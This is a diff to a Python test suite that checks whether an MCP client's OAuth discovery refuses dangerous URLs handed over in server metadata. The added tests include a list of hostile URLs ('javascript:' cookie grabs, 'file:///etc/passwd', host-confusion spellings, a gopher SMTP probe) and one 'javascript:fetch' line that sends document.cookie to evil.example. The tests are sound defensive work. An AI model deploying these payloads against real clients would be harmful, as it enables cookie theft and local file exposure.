@@ -72,7 +72,8 @@ class Mischief:
     - ``state`` (None: the request's), ``iss`` ("correct", "wrong", ABSENT), ``auth_error``: the redirect;
     - ``granted_scope``: the scope the token endpoint grants (None: the scope asked for);
     - ``refuse_tokens``: 401 even with a token it issued;
-    - ``step_up_tool``: calls of this tool always get 403 ``insufficient_scope`` (scope ``needs:more``).
+    - ``step_up_tool``: calls of this tool always get 403 ``insufficient_scope`` (scope ``needs:more``);
+    - ``resource_metadata``: the URL the challenge names (None: this origin's PRM).
 
     It records ``hits`` (path -> count), ``seen`` (what reached "authorize", "token", "register",
     "metadata") and ``secrets`` (every code, token, secret and verifier issued or received).
@@ -85,6 +86,7 @@ class Mischief:
         self.answers: dict = {}
         self.state, self.iss, self.auth_error = None, "correct", None
         self.granted_scope, self.refuse_tokens, self.step_up_tool = None, False, None
+        self.resource_metadata = None  # the challenge's resource_metadata URL (None: the PRM of this origin)
         self.hits: Counter = Counter()
         self.seen: dict = defaultdict(list)
         self.secrets: set = set()
@@ -187,7 +189,7 @@ class Mischief:
     def mcp(self, environ, body: bytes, start_response):
         header = environ.get("HTTP_AUTHORIZATION", "")
         token = header[len("Bearer "):] if header.startswith("Bearer ") else None
-        where = f', resource_metadata="{self.origin}{PRM_PATH}"' if self.prm else ""
+        where = f', resource_metadata="{self.resource_metadata or self.origin + PRM_PATH}"' if self.prm else ""
         if token not in self.tokens or self.refuse_tokens:
             invalid = ' error="invalid_token",' if token else ""
             return _answer(start_response, 401, {"error": "unauthorized"},
@@ -591,3 +593,165 @@ def test_step_up_gives_up_after_max_step_ups_and_the_connection_keeps_working(ap
         assert all("needs:more" in request["scope"].split() for request in step_ups)
         assert client.call_tool("hello").content[0].text == "hello"
     assert_clean(app, caplog, caught.value)
+
+
+# -- URLs taken from metadata (issue 20, class 2) -----------------------------------------------------
+
+#: URLs no metadata may hand the client: schemes a browser would run or read locally (the class of
+#: CVE-2025-6514), plain http to a remote host, credentials, fragments, and spellings on which a
+#: browser and urllib disagree about the host.
+DANGEROUS_URLS = [
+    "javascript:alert(document.cookie)",
+    "file:///etc/passwd",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "ms-settings:privacy",
+    "http://example.com/authorize",
+    "https://user:password@example.com/authorize",
+    "https://example.com/authorize#fragment",
+    "https://example.com\\@127.0.0.1/authorize",
+    " https://example.com/authorize",
+    "https://example.com/author\nize",
+    "//example.com/authorize",
+    "https:///authorize",
+    "https://example.com:99999/authorize",
+]
+
+
+@pytest.fixture
+def lookups(monkeypatch):
+    """Every host name this process resolves (a recording pass-through around socket.getaddrinfo)."""
+    seen: list[str] = []
+    real = socket.getaddrinfo
+
+    def recording(host, *args, **kwargs):
+        seen.append(str(host))
+        return real(host, *args, **kwargs)
+
+    monkeypatch.setattr(socket, "getaddrinfo", recording)
+    return seen
+
+
+@pytest.fixture
+def browser(monkeypatch):
+    """``webbrowser.open`` replaced by a recorder: the URLs the default handler would have opened."""
+    import webbrowser
+
+    opened: list[str] = []
+    monkeypatch.setattr(webbrowser, "open", lambda url, *args, **kwargs: opened.append(url) or True)
+    return opened
+
+
+def _nothing_left_discovery(app: Mischief, lookups: list[str]) -> None:
+    """Nothing was registered, authorized or posted; no host but 127.0.0.1 was even looked up."""
+    assert not app.seen["register"] and not app.seen["authorize"] and not app.seen["token"]
+    assert not [host for host in lookups if host not in ("127.0.0.1", "localhost")], lookups
+
+
+@pytest.mark.parametrize("endpoint", DANGEROUS_URLS)
+def test_a_dangerous_authorization_endpoint_never_reaches_the_browser(app, caplog, lookups, endpoint):
+    """2025-11-25 basic/authorization §Communication Security: "All authorization server endpoints MUST
+    be served over HTTPS"; a ``javascript:`` / ``file:`` one is handed to nobody.  Refused at discovery
+    (MetadataError naming the field), before registration, before the user's browser is involved; the
+    deployment serves the same client once its metadata is right."""
+    handed: list[str] = []
+    app.as_fields = {"authorization_endpoint": endpoint}
+    exc = refused(app, caplog, MetadataError, authorize=lambda url: handed.append(url) or "")
+    assert "authorization_endpoint" in str(exc) and handed == []
+    _nothing_left_discovery(app, lookups)
+    app.as_fields = {}
+    works(app)
+
+
+def test_the_default_browser_handler_never_opens_a_javascript_endpoint(app, caplog, browser):
+    """The default handler (LoopbackBrowser, opening the system browser): neither announced nor opened."""
+    announced: list[str] = []
+    app.as_fields = {"authorization_endpoint": "javascript:fetch('https://evil.example/?'+document.cookie)"}
+    refused(app, caplog, MetadataError, handler=LoopbackBrowser(open_browser=True, announce=announced.append))
+    assert browser == [] and announced == []
+
+
+@pytest.mark.parametrize("url", ["javascript:alert(1)", "file:///etc/passwd", "http://example.com/authorize?x=1"])
+def test_the_browser_handlers_check_the_url_themselves(browser, url):
+    """Whoever built the URL (a ServerMetadata of one's own): LoopbackBrowser and follow_redirect refuse it."""
+    handler = LoopbackBrowser(open_browser=True, announce=None)
+    handler.redirect_uri()
+    try:
+        with pytest.raises(MetadataError):
+            handler.authorize(url, 1.0)
+    finally:
+        handler.close()
+    with pytest.raises(MetadataError):
+        follow_redirect(url)
+    assert browser == []
+
+
+@pytest.mark.parametrize("field", ["token_endpoint", "registration_endpoint", "jwks_uri", "revocation_endpoint",
+                                   "introspection_endpoint", "pushed_authorization_request_endpoint"])
+@pytest.mark.parametrize("url", ["http://example.com/endpoint", "file:///etc/passwd", "javascript:alert(1)",
+                                 "https://user@example.com/endpoint"])
+def test_every_endpoint_of_the_metadata_is_checked(app, caplog, lookups, field, url):
+    """Every URL of the authorization server metadata (RFC 8414 §2), used by this client or not: a
+    client secret, a code and a verifier would go to the token endpoint in the clear."""
+    app.as_fields = {field: url}
+    exc = refused(app, caplog, MetadataError)
+    assert field in str(exc)
+    _nothing_left_discovery(app, lookups)
+    app.as_fields = {}
+    works(app)
+
+
+@pytest.mark.parametrize("servers", [
+    ["http://example.com"], ["javascript:alert(1)"], ["file:///etc"], ["https://user@example.com"],
+    ["{origin}?tenant=1"], ["{origin}#x"], ["{origin}", "data:,x"], ["https://example.com", "http://example.net"],
+], ids=["http", "javascript", "file", "userinfo", "query", "fragment", "second-bad", "second-http"])
+def test_authorization_servers_named_by_the_resource_are_checked_before_any_fetch(app, caplog, lookups, servers):
+    """RFC 9728 §2 ``authorization_servers`` are issuer identifiers (RFC 8414 §2: "a URL that uses the
+    https scheme and has no query or fragment components"): a bad one is refused before any of them
+    is asked for its metadata."""
+    app.prm_fields = {"authorization_servers": [s.format(origin=app.origin) for s in servers]}
+    refused(app, caplog, MetadataError)
+    assert app.hits[AS_PATH] == 0
+    _nothing_left_discovery(app, lookups)
+
+
+def test_a_resource_with_a_fragment_is_refused(app, caplog):
+    """RFC 9728 §2 / RFC 8707 §2: the resource identifier has no fragment."""
+    app.prm_fields = {"resource": app.origin + "/mcp#here"}
+    refused(app, caplog, MetadataError)
+    assert app.hits[AS_PATH] == 0
+
+
+@pytest.mark.parametrize("where", ["file:///etc/passwd", "http://example.com/.well-known/oauth-protected-resource",
+                                   "https://user:pw@example.com/prm", "javascript:alert(1)", "gopher://127.0.0.1:25/x"])
+def test_a_dangerous_resource_metadata_url_in_the_challenge_is_never_fetched(app, caplog, lookups, where):
+    """The WWW-Authenticate ``resource_metadata`` (RFC 9728 §5.1) comes from the server: checked before
+    it is fetched; nothing else is tried (the spec's "MUST use" leaves no fallback to a bad URL)."""
+    app.resource_metadata = where
+    refused(app, caplog, MetadataError)
+    assert app.hits[PRM_PATH] == 0 and app.hits[AS_PATH] == 0
+    _nothing_left_discovery(app, lookups)
+    app.resource_metadata = None
+    works(app)
+
+
+def test_check_url_keeps_loopback_targets_for_loopback_referrers():
+    """A remote server's metadata must not point this client, or the user's browser, at this machine;
+    a loopback deployment (tests, a local dev server) may; a referrer's own origin keeps its scheme."""
+    from mcp_ref.auth.discovery import check_issuer, check_url, legacy_authorization_server
+
+    assert check_url("http://127.0.0.1:9/authorize", "x", referrer="http://localhost:8") == "http://127.0.0.1:9/authorize"
+    assert check_url("https://as.example/authorize?a=1", "x", referrer="https://mcp.example")
+    assert check_url("http://mcp.example/prm", "x", referrer="http://mcp.example/mcp")  # the origin the user named
+    for url, referrer in [("http://127.0.0.1:631/admin", "https://as.example"), ("https://localhost/x", "https://as.example"),
+                          ("http://[::1]/x", "https://mcp.example/mcp"), ("http://mcp.example.net/prm", "http://mcp.example/mcp")]:
+        with pytest.raises(MetadataError):
+            check_url(url, "x", referrer=referrer)
+    with pytest.raises(MetadataError, match="query"):
+        check_issuer("https://as.example?x=1", "the issuer")
+    with pytest.raises(MetadataError, match="not an https URL"):
+        check_url("x" * 10, "x")
+    with pytest.raises(MetadataError, match="well-formed"):
+        check_url("https://as.example/" + "a" * 9000, "x")
+    with pytest.raises(MetadataError, match="HTTPS"):  # 2025-03-26: the MCP server's origin is the AS; plain http
+        legacy_authorization_server(requests.Session(), "http://mcp.example/mcp", timeout=1)
